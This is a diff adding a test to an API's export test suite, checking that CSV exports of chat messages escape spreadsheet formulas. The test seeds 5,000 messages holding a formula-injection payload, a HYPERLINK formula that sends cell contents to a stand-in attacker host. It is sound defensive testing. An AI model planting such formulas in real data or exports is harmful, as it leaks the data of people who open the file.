@@ -55,6 +55,22 @@ describe("an export", () => {
     await untilNoTransaction(api);
   });
 
+  it("of messages has every one, and none that a spreadsheet would reckon with", async () => {
+    const api = await serveApi();
+    await api.database.query(
+      `INSERT INTO messages (organization_id, conversation_id, role, content, created_at)
+       SELECT $1, $2, 'user', '=HYPERLINK("https://evil.example/" & A' || n || ')', now() - n * interval '1 millisecond'
+       FROM generate_series(1, 5000) AS n`,
+      [ids.organization(1), ids.row("ce", 1, 1)],
+    );
+    const messages = `/v1/organizations/${ids.organization(1)}/exports/messages`;
+    const { text } = await api.ask(`${messages}.csv`, { as });
+    expect(text.match(/,"'=HYPERLINK\(/g)).toHaveLength(5_000);
+    expect(text).not.toMatch(/,"?=/);
+    expect((await api.ask(`${messages}.json`, { as })).json).toHaveLength(5_030);
+    await untilNoTransaction(api);
+  });
+
   it("is made no faster than the client takes it", async () => {
     const pieces = 1_000;
     let made = 0;
